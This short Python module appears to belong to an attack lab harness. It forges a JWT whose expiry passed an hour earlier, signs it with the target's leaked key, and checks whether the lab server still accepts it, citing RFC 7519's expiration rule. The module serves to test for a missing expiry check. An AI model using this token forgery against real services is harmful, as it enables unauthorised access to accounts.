"""Use a token after its end.

Exploits a server that does not look at `exp`.
Source: RFC 7519, section 4.1.4 Expiration Time,
https://www.rfc-editor.org/rfc/rfc7519#section-4.1.4
"""

import time

from attacks.lab.attack import attack
from attacks.lab.forge import claims_about, signed
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign a token that ended an hour ago, as the server would have."""
    victim = target.enrol()
    target.token_of(victim)
    claims = claims_about(victim.username, exp=int(time.time()) - 3600)
    return judge({"ended an hour ago": target.read(signed(claims, target.leaked_key()))})
